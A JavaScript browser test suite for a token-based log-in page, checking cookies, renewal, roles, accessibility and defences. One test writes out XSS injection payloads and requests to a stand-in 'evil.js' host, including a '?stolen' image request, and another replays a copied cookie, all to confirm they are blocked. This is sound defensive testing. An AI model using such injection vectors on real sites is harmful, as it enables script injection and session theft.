// The page of the log-in system in a browser, with nginx, both issuers and the services behind it. run.py starts them.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:https';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';

import { audit } from './accessibility.mjs';
import { PASSWORD, command, launch, logIn, login, newEmail, open, signUp } from './browser.mjs';

let browser;
let elsewhere;
// All tokens that went over the wire, to be looked for where none may be.
const tokens = new Set();
const contexts = new Set();

/** A browser of its own, as far as cookies and storage go. What its pages get wrong fails the test that closes it. */
async function visit(t, options = {}) {
  const context = await browser.newContext({ locale: 'en-GB', ...options });
  contexts.add(context);
  // A loaded machine takes its time.
  context.setDefaultTimeout(90_000);
  const errors = [];
  context.on('weberror', (error) => errors.push(String(error.error())));
  context.on('response', async (response) => {
    const url = new URL(response.url());
    if (!/^\/auth\/(login|refresh)$/.test(url.pathname)) return;
    const body = await response.json().catch(() => ({}));
    for (const token of [body.access_token, body.address_token]) if (token) tokens.add(token);
    for (const { value } of await context.cookies().catch(() => [])) if (value.includes('.')) tokens.add(value);
  });
  t.after(async () => {
    contexts.delete(context);
    await context.close();
    assert.deepEqual(errors, [], 'the page has made mistakes');
  });
  return context;
}

const pill = (page) => page.locator('#pill');
const lines = (page) => page.getByRole('log').getByRole('listitem');
const claim = (page, name) =>
  page
    .locator('#claims tr', { has: page.getByRole('rowheader', { name, exact: true }) })
    .locator('td')
    .first();

async function press(page, name) {
  await page.getByRole('button', { name: new RegExp(`^${name}(?=[ ,]|$)`) }).click();
}

/** Calls a service, and waits for the answer. */
async function ask(page, name, path) {
  const answered = page.waitForResponse((response) => new URL(response.url()).pathname === path);
  await press(page, name);
  const response = await answered;
  await pill(page)
    .filter({ hasText: String(response.status()) })
    .waitFor();
  return response;
}

const isOut = (page) => page.getByRole('heading', { name: 'Log in', exact: true }).waitFor();
const isIn = (page, name = 'Alice Miller') => page.getByRole('heading', { name: `Hello, ${name}` }).waitFor();

before(async () => {
  const files = ['server.key', 'server.pem'].map((name) => readFileSync(join(login.others, name)));
  elsewhere = createServer({ key: files[0], cert: files[1] }, (request, response) => {
    if (request.url === '/evil.js') {
      response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
      response.end('globalThis.injected = "a script of another site";');
    } else {
      response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end('<!doctype html><title>Another site</title><h1>Another site</h1>');
    }
  });
  await new Promise((resolve) => elsewhere.listen(login.port, '127.0.0.1', resolve));
  browser = await launch();
});

after(async () => {
  await browser?.close();
  elsewhere?.closeAllConnections();
  await new Promise((resolve) => elsewhere.close(resolve));
  // When all have been at it: no part of a token that somebody could use is in any log.
  assert.ok(tokens.size > 0, 'no token was seen');
  const logs = login.logs.map((file) => readFileSync(file, 'utf8')).join('\n');
  assert.match(logs, /"what":"\/auth\/refresh"/);
  for (const token of tokens) {
    for (const part of token.split('.'))
      assert.ok(part.length < 20 || !logs.includes(part), 'a log has a part of a token');
  }
  for (const secret of [PASSWORD, 'Mill Lane', '@example.com'])
    assert.ok(!logs.includes(secret), `a log has ${secret}`);
});

describe('the page', { concurrency: 3 }, () => {
  test('tells the whole story', async (t) => {
    const context = await visit(t);
    const page = await open(context);
    const protocol = await page.evaluate(() => performance.getEntriesByType('navigation')[0].nextHopProtocol);
    assert.equal(protocol, 'h2');
    await isOut(page);
    const email = await signUp(page, { address: '12 Mill Lane, Cambridge' });
    assert.equal(await page.evaluate(() => document.activeElement.id), 'greeting');
    const first = await claim(page, 'jti').textContent();

    // The token, decoded.
    assert.deepEqual(
      await page
        .locator('#header td:nth-of-type(1)')
        .allTextContents()
        .then((cells) => cells.slice(0, 2)),
      ['ES256', 'at+jwt'],
    );
    assert.equal(await claim(page, 'iss').textContent(), login.site);
    assert.equal(await claim(page, 'email').textContent(), email);
    assert.equal(await claim(page, 'aud').textContent(), 'orders, shipping, stock');
    assert.equal(await claim(page, 'roles').textContent(), 'customer');
    const colours = await page
      .locator('.encoded span[id]')
      .evaluateAll((parts) => parts.map((part) => getComputedStyle(part).color));
    assert.equal(new Set(colours).size, 3);

    // The clock goes.
    const time = page.getByRole('timer');
    assert.match(await time.textContent(), /^0:(0\d|1[0-2])$/);
    const shown = await time.textContent();
    await page.waitForFunction((before) => document.getElementById('time').textContent !== before, shown);

    // Services.
    await page.getByLabel('Order an article').fill('a lamp');
    assert.equal((await ask(page, 'Order', '/orders')).status(), 201);
    assert.equal((await ask(page, 'My orders', '/orders')).status(), 200);
    assert.match(await page.locator('#body').textContent(), /"a lamp"/);
    assert.equal((await ask(page, 'What is in stock', '/stock')).status(), 200);
    assert.equal((await ask(page, 'Ship to my address', '/shipments')).status(), 200);
    assert.match(await page.locator('#body').textContent(), /12 Mill Lane, Cambridge/);
    assert.equal((await ask(page, 'Everybody’s orders', '/all-orders')).status(), 403);
    assert.equal((await ask(page, 'Fill the stock', '/stock')).status(), 403);
    for (const [name, challenge, error] of [
      ['Without a token', 'Bearer', 'JWT_NO_BEARER'],
      ['With a changed token', 'Bearer error="invalid_token"', 'JWT_SIGNATURE_INVALID'],
      ['With the address token', 'Bearer error="invalid_token"', 'JWT_TOKEN_UNSUPPORTED'],
    ]) {
      assert.equal((await ask(page, name, '/orders')).status(), 401, name);
      await page.locator('#body', { hasText: error }).waitFor();
      assert.equal(await page.locator('#challenge').textContent(), challenge);
    }
    assert.match(await page.locator('#said').textContent(), /^GET \/orders: 401, refused/);

    // It renews itself before it ends.
    await lines(page).filter({ hasText: 'renewed itself' }).first().waitFor();
    assert.notEqual(await claim(page, 'jti').textContent(), first);
    assert.equal((await ask(page, 'My orders', '/orders')).status(), 200);

    // A role is in the next token.
    await command('grant', email, 'customer', 'staff');
    await press(page, 'Renew now');
    await page.getByText(`${email} · customer and staff`).waitFor();
    assert.equal((await ask(page, 'Everybody’s orders', '/all-orders')).status(), 200);
    assert.equal((await ask(page, 'Fill the stock', '/stock')).status(), 200);

    // The cookie brings it back, and the log-out ends it.
    await page.reload();
    await isIn(page);
    await lines(page).filter({ hasText: 'cookie of an earlier log-in' }).waitFor();
    await press(page, 'Log out');
    await isOut(page);
    assert.equal(await page.evaluate(() => document.activeElement.id), 'log-in-title');
    await page.getByText('You are logged out.').waitFor();
    // That is said at once, and the issuer told after.
    for (let round = 0; round < 300 && (await context.cookies()).length > 0; round += 1) await sleep(100);
    assert.deepEqual(await context.cookies(), []);
    assert.ok(!(await page.locator('body').innerHTML()).includes(email), 'the page still has the e-mail address');
    await page.reload();
    await isOut(page);

    // And in again, not without the password.
    await logIn(page, email, 'letmeinletmein');
    await page.getByRole('alert').filter({ hasText: 'E-mail address or password is wrong.' }).waitFor();
    await logIn(page, email);
    await isIn(page);
  });

  test('says what is wrong with what was typed', async (t) => {
    const page = await open(await visit(t));
    await isOut(page);
    const form = page.locator('form:visible');
    await press(page, 'Sign up');
    await form.getByRole('button', { name: 'Sign up' }).click();
    assert.equal(await page.evaluate(() => document.activeElement.id), 'sign-up-name');
    await form.getByLabel('Name').fill('Bob');
    await form.getByLabel('E-mail').fill('nobody');
    await form.getByLabel('Password').fill('short');
    await form.getByRole('button', { name: 'Sign up' }).click();
    assert.equal(await page.evaluate(() => document.activeElement.id), 'sign-up-email');
    for (const [label, mistake] of [
      ['E-mail', 'no e-mail address'],
      ['Password', '12 characters or more'],
    ]) {
      const field = form.getByLabel(label);
      assert.equal(await field.getAttribute('aria-invalid'), 'true');
      const ids = (await field.getAttribute('aria-describedby')).split(' ');
      const described = await page.locator(ids.map((id) => `#${id}`).join(', ')).allTextContents();
      assert.ok(described.join(' ').includes(mistake), `${label}: ${described}`);
    }
    assert.equal(await form.getByLabel('Name').getAttribute('aria-invalid'), null);
    // What only the server knows: it has another idea of an e-mail address, and there is an account.
    await form.getByLabel('Password').fill(PASSWORD);
    await page.route(
      '**/auth/signup',
      (route) =>
        route.fulfill({ status: 422, json: { error: 'invalid_request', faults: [{ at: ['email'], what: 'x' }] } }),
      { times: 1 },
    );
    await form.getByLabel('E-mail').fill('bob@example.com');
    await form.getByRole('button', { name: 'Sign up' }).click();
    await page.locator('#sign-up-email-fault', { hasText: 'no e-mail address' }).waitFor();
    const email = newEmail();
    await form.getByLabel('E-mail').fill(email);
    await form.getByRole('button', { name: 'Sign up' }).click();
    await isIn(page, 'Bob');
    await press(page, 'Log out');
    await isOut(page);
    await press(page, 'Sign up');
    await form.getByLabel('Name').fill('Bob');
    await form.getByLabel('E-mail').fill(email.toUpperCase());
    await form.getByLabel('Password').fill(PASSWORD);
    await form.getByRole('button', { name: 'Sign up' }).click();
    await page.getByRole('alert').filter({ hasText: 'There is an account' }).waitFor();
  });

  test('keeps the refresh token in a cookie that no script and no service sees', async (t) => {
    const context = await visit(t);
    const page = await open(context);
    const sent = [];
    page.on('request', (request) => sent.push(request));
    await signUp(page);
    await ask(page, 'My orders', '/orders');
    const [cookie, ...others] = await context.cookies();
    assert.deepEqual(others, []);
    const { name, domain, path, httpOnly, secure, sameSite, expires } = cookie;
    assert.deepEqual(
      { name, domain, path, httpOnly, secure, sameSite },
      { name: '__Host-refresh', domain: login.host, path: '/', httpOnly: true, secure: true, sameSite: 'Strict' },
    );
    assert.ok(Math.abs(expires - Date.now() / 1000 - 30 * 86_400) < 60);
    assert.equal(await page.evaluate(() => document.cookie), '');
    assert.equal(await page.evaluate(async () => (await globalThis.cookieStore?.getAll())?.length ?? 0), 0);
    // The page does not even send it to a service. What nginx does with one that comes, test_proxy.py tries.
    for (const request of sent) {
      const headers = await request.allHeaders();
      const route = new URL(request.url()).pathname;
      if (!route.startsWith('/auth/')) assert.equal(headers.cookie, undefined, route);
      assert.equal(headers.authorization === undefined, route !== '/orders', route);
      assert.equal(headers.referer, undefined, route);
    }
    // A script cannot put one in its place.
    await page.evaluate(() => {
      document.cookie = '__Host-refresh=x; Secure; Path=/';
    });
    assert.equal((await context.cookies())[0].value.split('.').length, 3);
  });

  test('gives an injected script nothing', async (t) => {
    const context = await visit(t);
    const page = await context.newPage();
    const [document_] = await Promise.all([page.waitForResponse(`${login.site}/`), page.goto(login.site)]);
    const policy = (await document_.allHeaders())['content-security-policy'];
    assert.ok(!/unsafe|\*|data:|blob:/.test(policy), policy);
    await signUp(page, { address: '12 Mill Lane, Cambridge' });
    await ask(page, 'My orders', '/orders');
    await page
      .getByLabel('Order an article')
      .fill('<img src=x onerror="globalThis.injected = 1"><script>injected = 2</script>');
    assert.equal((await ask(page, 'Order', '/orders')).status(), 201);
    assert.equal(await page.locator('#body img').count(), 0);

    // Each way to get a script in is tried, and each is stopped by the policy.
    const stopped = await page.evaluate(async (evil) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violations.push(effectiveDirective),
      );
      const thrown = [];
      const attempt = (what, work) => {
        try {
          work();
        } catch (error) {
          thrown.push(`${what}: ${error.name}`);
        }
      };
      // What DevTools evaluate may use eval. From here on it is the page that runs.
      await new Promise((resolve) => {
        setTimeout(resolve);
      });
      const element = (name, attributes = {}) => Object.assign(document.createElement(name), attributes);
      attempt('innerHTML', () => {
        document.body.innerHTML = '<img src=x onerror="globalThis.injected = 3">';
      });
      attempt('write', () => document.write('<script>globalThis.injected = 4</script>'));
      attempt('eval', () => (0, eval)('globalThis.injected = 5'));
      attempt('Function', () => new Function('globalThis.injected = 6')());
      attempt('setTimeout', () => setTimeout('globalThis.injected = 7'));
      attempt('script text', () => document.head.append(element('script', { text: 'globalThis.injected = 8' })));
      attempt('script src', () => document.head.append(element('script', { src: evil })));
      attempt('attribute', () => document.body.setAttribute('onclick', 'globalThis.injected = 9'));
      attempt('javascript:', () => {
        const link = element('a');
        link.href = 'javascript:globalThis.injected = 10';
        document.body.append(link);
        link.click();
        link.remove();
      });
      // What an injection into the HTML itself would be, for which no function of the page is called.
      const parsed = new DOMParser();
      attempt('parser', () => parsed.parseFromString('<script>globalThis.injected = 11</script>', 'text/html'));
      const imported = await import(evil).then(
        () => 'loaded',
        () => 'stopped',
      );
      const image = await new Promise((resolve) => {
        document.body.append(
          element('img', { onload: () => resolve('loaded'), onerror: () => resolve('stopped'), src: `${evil}?stolen` }),
        );
      });
      const sent = await fetch(evil).then(
        () => 'sent',
        () => 'stopped',
      );
      const form = element('form', { action: evil, method: 'post' });
      document.body.append(form);
      form.submit();
      document.body.click();
      // A form is sent a little later.
      for (let round = 0; round < 100 && !violations.includes('form-action'); round += 1) {
        await new Promise((resolve) => {
          setTimeout(resolve, 100);
        });
      }
      return { violations, thrown, imported, image, sent, injected: globalThis.injected, href: location.href };
    }, `${login.partner}/evil.js`);
    assert.equal(stopped.injected, undefined);
    assert.deepEqual([stopped.imported, stopped.image, stopped.sent], ['stopped', 'stopped', 'stopped']);
    assert.equal(stopped.href, `${login.site}/`);
    for (const what of ['innerHTML', 'write', 'eval', 'Function', 'script text', 'script src', 'parser']) {
      assert.ok(
        stopped.thrown.some((line) => line.startsWith(`${what}:`)),
        `${what} was not stopped: ${stopped.thrown}`,
      );
    }
    for (const directive of ['script-src-elem', 'img-src', 'connect-src', 'form-action', 'require-trusted-types-for']) {
      assert.ok(stopped.violations.includes(directive), `${directive}: ${stopped.violations}`);
    }

    // One that got in all the same, by a hole in the browser say, finds no token: not in what it can reach from the window, in
    // the document, in storage, in what the page's modules export, in messages to other tabs, nor by taking fetch's place.
    const spoils = await page.evaluate(async () => {
      const heard = [];
      const channel = new BroadcastChannel('session');
      channel.onmessage = ({ data }) => heard.push(data);
      const native = globalThis.fetch;
      let asked = 0;
      globalThis.fetch = (...given) => {
        asked += 1;
        heard.push(given);
        return native(...given);
      };
      const modules = await Promise.all(['session', 'token', 'main'].map((name) => import(`/${name}.js`)));
      modules[0].events.addEventListener('in', ({ detail }) => heard.push(detail));
      await modules[0].renew();
      heard.push(await modules[0].call('/orders'));
      const seen = new Set();
      const texts = [];
      const look = (value, depth) => {
        if (typeof value === 'string') texts.push(value);
        if (typeof value === 'function') texts.push(Function.prototype.toString.call(value));
        if (value === null || !['object', 'function'].includes(typeof value) || seen.has(value) || depth > 12) return;
        seen.add(value);
        // What a getter answers that wants another `this`.
        if (value instanceof Promise) value.catch(() => {});
        if (value instanceof Map || value instanceof Set) for (const each of value) look(each, depth + 1);
        for (let owner = value; owner !== null; owner = Object.getPrototypeOf(owner)) {
          for (const key of Reflect.ownKeys(owner)) {
            try {
              look(value[key], depth + 1);
            } catch {
              // So do these.
            }
          }
        }
      };
      look(globalThis, 0);
      look(modules, 0);
      look(heard, 0);
      texts.push(
        document.documentElement.outerHTML,
        document.cookie,
        JSON.stringify(history.state),
        location.href,
        window.name,
      );
      texts.push(JSON.stringify(performance.getEntries()));
      for (const storage of [localStorage, sessionStorage]) texts.push(JSON.stringify({ ...storage }));
      for (const input of document.querySelectorAll('input')) texts.push(input.value);
      return {
        texts,
        asked,
        reached: seen.size,
        stored: localStorage.length + sessionStorage.length,
        databases: (await indexedDB.databases()).length,
        caches: (await caches.keys()).length,
        workers: (await navigator.serviceWorker.getRegistrations()).length,
      };
    });
    const { texts, reached, ...rest } = spoils;
    assert.ok(reached > 1000, `only ${reached} objects were reached`);
    assert.deepEqual(rest, { asked: 0, stored: 0, databases: 0, caches: 0, workers: 0 });
    const everything = texts.join('\n');
    assert.ok(everything.includes('Hello, Alice Miller'));
    const own = [...tokens].filter((token) => everything.includes(token.split('.')[1]));
    assert.ok(own.length > 0, 'the claims, which are shown, were not found');
    for (const token of tokens) {
      // The signature, or what is encrypted: without it a token is worth nothing.
      const parts = token.split('.');
      const needed = parts[parts.length === 3 ? 2 : 3].slice(10, -10);
      assert.ok(needed.length > 20 && !everything.includes(needed), 'a token was found');
    }
  });

  test('is for one other site, and for no third', async (t) => {
    const context = await visit(t);
    const page = await open(context);
    const email = await signUp(page);
    // As long as a token lives here it may not last for all that is tried.
    const freshToken = () =>
      page.evaluate(() =>
        navigator.locks.request('refresh', async () => {
          const answer = await fetch('/auth/refresh', { method: 'POST' });
          return (await answer.json()).access_token;
        }),
      );
    const attempt = async (from, path, { withToken = false, headers = {}, ...init }) => {
      const all = { ...headers, ...(withToken && { Authorization: `Bearer ${await freshToken()}` }) };
      return from.evaluate(
        ([url, options]) =>
          fetch(url, options).then(
            async (response) => [
              response.status,
              response.headers.get('WWW-Authenticate'),
              await response.json().catch(() => null),
            ],
            () => 'refused by the browser',
          ),
        [login.site + path, { ...init, headers: all }],
      );
    };
    const bearer = { withToken: true };
    const order = {
      ...bearer,
      method: 'POST',
      body: '{"article":"a chair"}',
      headers: { 'Content-Type': 'application/json' },
    };

    const partner = await context.newPage();
    await partner.goto(login.partner);
    assert.equal((await attempt(partner, '/orders', order))[0], 201);
    assert.deepEqual((await attempt(partner, '/orders', bearer))[2].orders, ['a chair']);
    // It sees why it is refused.
    assert.deepEqual(await attempt(partner, '/orders', {}), [401, 'Bearer', { error: 'JWT_NO_BEARER' }]);
    assert.equal((await attempt(partner, '/all-orders', bearer))[0], 403);
    // Not with cookies, not at the issuer, not the page, and no other field.
    assert.equal(await attempt(partner, '/orders', { ...bearer, credentials: 'include' }), 'refused by the browser');
    assert.equal(
      await attempt(partner, '/auth/refresh', { method: 'POST', credentials: 'include' }),
      'refused by the browser',
    );
    assert.equal(await attempt(partner, '/', {}), 'refused by the browser');
    assert.equal(
      await attempt(partner, '/orders', { ...bearer, headers: { 'X-Other': '1' } }),
      'refused by the browser',
    );
    assert.equal(await attempt(partner, '/orders', { ...bearer, method: 'DELETE' }), 'refused by the browser');

    const stranger = await context.newPage();
    await stranger.goto(login.stranger);
    for (const init of [{}, bearer, order, { ...bearer, credentials: 'include' }]) {
      assert.equal(await attempt(stranger, '/orders', init), 'refused by the browser');
    }
    await press(page, 'My orders');
    await page.locator('#body', { hasText: 'a chair' }).waitFor();
    assert.doesNotMatch(await page.locator('#body').textContent(), /a chair[^]*a chair/);

    // Neither can act with the user's cookie: by a request whose answer it cannot read, by a form, or in a frame.
    for (const site of [partner, stranger]) {
      for (const route of ['logout', 'refresh']) {
        const url = `${login.site}/auth/${route}`;
        const failed = site.waitForEvent('requestfailed', (request) => request.url() === url);
        await site.evaluate(
          (to) => fetch(to, { method: 'POST', mode: 'no-cors', credentials: 'include' }).catch(() => {}),
          url,
        );
        const request = await failed;
        assert.match(request.failure().errorText, /ERR_BLOCKED_BY_RESPONSE/);
        assert.equal((await request.allHeaders()).cookie, undefined);
      }
      const framed = await site.evaluate(async (url) => {
        const frame = document.createElement('iframe');
        await new Promise((resolve) => {
          frame.onload = resolve;
          frame.src = url;
          document.body.append(frame);
        });
        return frame.contentDocument === null;
      }, login.site);
      assert.ok(framed);
      assert.ok(
        site
          .frames()
          .slice(1)
          .every((frame) => !frame.url().startsWith(login.site)),
        'the page is in a frame',
      );
      const posted = site.waitForResponse(`${login.site}/auth/logout`);
      await site.evaluate((url) => {
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', action: url });
        document.body.append(form);
        form.submit();
      }, `${login.site}/auth/logout`);
      assert.equal((await posted).status(), 403);
    }
    await press(page, 'Renew now');
    await lines(page).filter({ hasText: 'You renewed the token' }).waitFor();
  });

  test('is in two tabs at once', async (t) => {
    const context = await visit(t);
    const first = await open(context);
    const email = await signUp(first);
    const second = await open(context);
    await isIn(second);
    // Each has a token of its own, and they do not take the cookie from each other.
    assert.notEqual(await claim(first, 'jti').textContent(), await claim(second, 'jti').textContent());
    for (let round = 0; round < 5; round += 1) {
      const answers = [first, second].map((page) => page.waitForResponse(`${login.site}/auth/refresh`));
      await Promise.all([first, second].map((page) => press(page, 'Renew now')));
      for (const answer of await Promise.all(answers)) {
        assert.equal(answer.status(), 200);
        // Both were first: neither came with a token that was spent.
        assert.ok((await answer.allHeaders())['set-cookie'], `round ${round}`);
      }
    }
    // Out in one is out in the other, and in too.
    await press(first, 'Log out');
    await isOut(second);
    await second.getByText('You logged out in another tab.').waitFor();
    await logIn(second, email);
    await isIn(second);
    await isIn(first);
    // Another user in one is another user in the other.
    await press(first, 'Log out');
    await isOut(first);
    await signUp(first, { name: 'Bob Carter' });
    await isIn(second, 'Bob Carter');
    await second.getByLabel('Order an article').fill('a table');
    assert.equal((await ask(second, 'Order', '/orders')).status(), 201);
    await ask(first, 'My orders', '/orders');
    await first.locator('#body', { hasText: 'a table' }).waitFor();
  });

  test('lives with two tabs that race', async (t) => {
    // A browser without locks, and without a way to tell the other tab.
    const context = await visit(t);
    await context.addInitScript(() => {
      Object.defineProperty(navigator, 'locks', { value: undefined });
      delete globalThis.BroadcastChannel;
    });
    const pages = [await open(context)];
    await signUp(pages[0]);
    pages.push(await open(context));
    await isIn(pages[1]);
    let without = 0;
    for (let round = 0; round < 8; round += 1) {
      const answers = pages.map((page) => page.waitForResponse(`${login.site}/auth/refresh`));
      // At the same moment, as far as that goes.
      await Promise.all(pages.map((page) => page.evaluate(() => document.getElementById('renew').click())));
      for (const answer of await Promise.all(answers)) {
        assert.equal(answer.status(), 200);
        if (!(await answer.allHeaders())['set-cookie']) without += 1;
      }
    }
    t.diagnostic(`${without} of 16 came with a token that the other tab had just spent`);
    for (const page of pages) {
      await page.reload();
      await isIn(page);
      assert.equal((await ask(page, 'My orders', '/orders')).status(), 200);
    }
  });

  test('sends a form whose token ended while it was open', async (t) => {
    // The tab sleeps, as behind other windows or under a closed lid.
    const context = await visit(t);
    const page = await open(context);
    await signUp(page);
    const devtools = await context.newCDPSession(page);
    await page.getByLabel('Order an article').fill('a clock that was stopped');
    await devtools.send('Page.setWebLifecycleState', { state: 'frozen' });
    await sleep((login.accessLifetime + 1) * 1000);
    await devtools.send('Page.setWebLifecycleState', { state: 'active' });
    const answered = page.waitForResponse(
      (response) => response.request().method() === 'POST' && response.url().endsWith('/orders'),
    );
    await press(page, 'Order');
    assert.equal((await answered).status(), 201);
    await lines(page).filter({ hasText: 'renewed itself' }).first().waitFor();
    await page.locator('#body', { hasText: 'a clock that was stopped' }).waitFor();
  });

  test('renews a token that a service no longer takes', async (t) => {
    // The page's clock stands still, so that it believes in its token to the end.
    const context = await visit(t);
    const page = await context.newPage();
    await page.clock.install();
    await page.goto(login.site);
    await signUp(page);
    await page.clock.pauseAt(new Date(Date.now() + 1000));
    await page.getByLabel('Order an article').fill('a slow clock');
    await sleep((login.accessLifetime + 1) * 1000);
    const statuses = [];
    page.on('response', (response) => statuses.push([new URL(response.url()).pathname, response.status()]));
    await press(page, 'Order');
    await page.locator('#body', { hasText: 'a slow clock' }).waitFor();
    assert.deepEqual(statuses, [
      ['/orders', 401],
      ['/auth/refresh', 200],
      ['/orders', 201],
    ]);
    await lines(page).filter({ hasText: 'no longer took the token' }).waitFor();
    assert.equal(await page.getByLabel('Order an article').inputValue(), '');
  });

  test('asks for the password when the session has ended, and keeps what was typed', async (t) => {
    const context = await visit(t);
    const page = await open(context);
    const email = await signUp(page);
    const [stolen] = await context.cookies();
    await press(page, 'Renew now');
    await lines(page).filter({ hasText: 'You renewed the token' }).waitFor();
    await press(page, 'Renew now');
    await page.waitForFunction(() => document.querySelectorAll('#log li').length >= 3);
    await page.getByLabel('Order an article').fill('half of a sent');
    // A thief comes with a copy of the first cookie: the session ends, for both.
    const thief = await visit(t);
    await thief.addCookies([stolen]);
    await isOut(await open(thief));
    assert.deepEqual(await thief.cookies(), []);
    // The page learns of it when it renews next, by itself.
    await page.getByRole('alert').filter({ hasText: 'Your session has ended.' }).waitFor();
    assert.deepEqual(await context.cookies(), []);
    await logIn(page, email);
    await isIn(page);
    assert.equal(await page.getByLabel('Order an article').inputValue(), 'half of a sent');
    // Another user does not get it.
    await press(page, 'Log out');
    await isOut(page);
    await signUp(page, { name: 'Carol Jones' });
    assert.equal(await page.getByLabel('Order an article').inputValue(), '');
  });

  test('goes on while the issuer is down, and says so', async (t) => {
    const context = await visit(t);
    const page = await open(context);
    const email = await signUp(page);
    // As nginx answers without an issuer behind it, which test_proxy.py has it do.
    const down = (route) => route.fulfill({ status: 503, json: { error: 'temporarily_unavailable' } });
    await context.route('**/auth/*', down);
    // The token that there is goes on to be good. It is used at once, for it does not last long here.
    const answered = page.waitForResponse(`${login.site}/orders`);
    await page.evaluate(
      () =>
        new Promise((resolve) => {
          const observer = new MutationObserver(() => {
            if (!document.querySelector('#log li').textContent.includes('The issuer cannot be reached.')) return;
            observer.disconnect();
            document.querySelector('[data-call=orders]').click();
            resolve();
          });
          observer.observe(document.getElementById('log'), { childList: true });
        }),
    );
    assert.equal((await answered).status(), 200);
    await context.unroute('**/auth/*', down);
    await lines(page).filter({ hasText: 'renewed itself' }).first().waitFor();
    // Nothing answers at all.
    await context.route('**/auth/*', (route) => route.abort());
    await press(page, 'Log out');
    await page.getByRole('alert').filter({ hasText: 'could not be told' }).waitFor();
    await logIn(page, email);
    await page.getByRole('alert').filter({ hasText: 'cannot be reached now' }).waitFor();
    await page.reload();
    await page.getByRole('alert').filter({ hasText: 'cannot be reached now' }).waitFor();
    await context.unrouteAll();
    await logIn(page, email);
    await isIn(page);
  });

  test('needs no mouse', async (t) => {
    const page = await open(await visit(t));
    await isOut(page);
    const focused = () =>
      page.evaluate(
        () =>
          document.activeElement.textContent.trim() || document.activeElement.id || document.activeElement.localName,
      );
    const stops = [];
    /** Tabs on to a control, each stop of which can be seen. */
    const tabTo = async (name) => {
      for (let step = 0; step < 40; step += 1) {
        await page.keyboard.press('Tab');
        const stop = await page.evaluate(() => {
          const { activeElement } = document;
          if (activeElement === document.body) return null;
          const { outlineStyle, outlineWidth } = getComputedStyle(activeElement);
          const box = activeElement.getBoundingClientRect();
          const label =
            activeElement.labels?.[0]?.textContent ??
            activeElement.getAttribute('aria-label') ??
            activeElement.textContent;
          return {
            label: label.trim(),
            isRinged: outlineStyle !== 'none' && parseFloat(outlineWidth) >= 2,
            isSeen: box.top >= 0 && box.bottom <= innerHeight && box.width > 0,
          };
        });
        if (stop === null) continue;
        stops.push(stop);
        if (stop.label.startsWith(name)) return;
      }
      assert.fail(`the keyboard does not get to ${name}: ${stops.map(({ label }) => label)}`);
    };
    await tabTo('Skip to the content');
    await page.keyboard.press('Enter');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'main');
    await tabTo('Sign up');
    await page.keyboard.press('Enter');
    assert.equal(await focused(), 'Sign up');
    await tabTo('Name');
    await page.keyboard.type('Dora Key');
    await tabTo('E-mail');
    const email = newEmail();
    await page.keyboard.type(email);
    await tabTo('Password');
    await page.keyboard.type(PASSWORD);
    await tabTo('Postal address');
    await page.keyboard.type('3 Board Street');
    await page.keyboard.press('Enter');
    await isIn(page, 'Dora Key');
    assert.equal(await focused(), 'Hello, Dora Key');
    await tabTo('Order an article');
    await page.keyboard.type('a keyboard');
    await page.keyboard.press('Enter');
    await page.locator('#body', { hasText: 'a keyboard' }).waitFor();
    await tabTo('Ship to my address');
    await page.keyboard.press('Space');
    await page.locator('#body', { hasText: '3 Board Street' }).waitFor();
    // The control keeps the focus while its answer comes, and the answer is said.
    assert.match(await focused(), /^Ship to my address/);
    assert.match(await page.locator('#said').textContent(), /^POST \/shipments: 200, done/);
    // Once round, without a trap.
    const before = stops.length;
    await tabTo('Log out');
    const all = new Set(stops.slice(before).map(({ label }) => label));
    for (const label of ['Without a token', 'The answer’s body', 'Skip to the content']) {
      assert.ok(
        [...all].some((each) => each.startsWith(label)),
        `${label} is not among ${[...all]}`,
      );
    }
    await page.keyboard.press('Enter');
    await isOut(page);
    assert.equal(await focused(), 'Log in');
    await tabTo('E-mail');
    await page.keyboard.type(email);
    await tabTo('Password');
    await page.keyboard.type(PASSWORD);
    await page.keyboard.press('Enter');
    await isIn(page, 'Dora Key');
    for (const { label, isRinged, isSeen } of stops)
      assert.ok(isRinged && isSeen, `it cannot be seen that ${label} has the focus`);
  });

  for (const colorScheme of ['light', 'dark']) {
    test(`can be read by everybody, ${colorScheme}`, async (t) => {
      const context = await visit(t, { colorScheme, viewport: { width: 1280, height: 800 } });
      const page = await open(context);
      await isOut(page);
      const everywhere = async (state) => {
        // 320 pixels are 1280 at a zoom of 400 % (WCAG 1.4.10).
        for (const width of [1280, 320]) {
          await page.setViewportSize({ width, height: 800 });
          assert.deepEqual(await audit(page), [], `${state}, ${width} pixels wide`);
        }
        await page.setViewportSize({ width: 1280, height: 800 });
      };
      await everywhere('log-in');
      await logIn(page, newEmail(), 'letmeinletmein');
      await page.getByRole('alert').filter({ hasText: 'wrong' }).waitFor();
      await everywhere('refused');
      await press(page, 'Sign up');
      await page.locator('form:visible').getByRole('button', { name: 'Sign up' }).click();
      await everywhere('sign-up with mistakes');
      await page.reload();
      await signUp(page, { address: '12 Mill Lane, Cambridge' });
      await ask(page, 'My orders', '/orders');
      await everywhere('logged in');
      await ask(page, 'With a changed token', '/orders');
      await everywhere('refused by a service');
      await press(page, 'Log out');
      await page.getByText('You are logged out.').waitFor();
      await everywhere('logged out');
    });
  }

  test('says nothing with colours alone, and moves nothing where that is not wanted', async (t) => {
    const context = await visit(t, { forcedColors: 'active', reducedMotion: 'reduce' });
    const page = await open(context);
    await signUp(page);
    await ask(page, 'With a changed token', '/orders');
    assert.match(await page.locator('.verdict').textContent(), /401 refused: no token/);
    const moving = await page.evaluate(
      () =>
        [...document.querySelectorAll('*')].filter((each) => getComputedStyle(each).transitionDuration !== '0s').length,
    );
    assert.equal(moving, 0);
  });
});
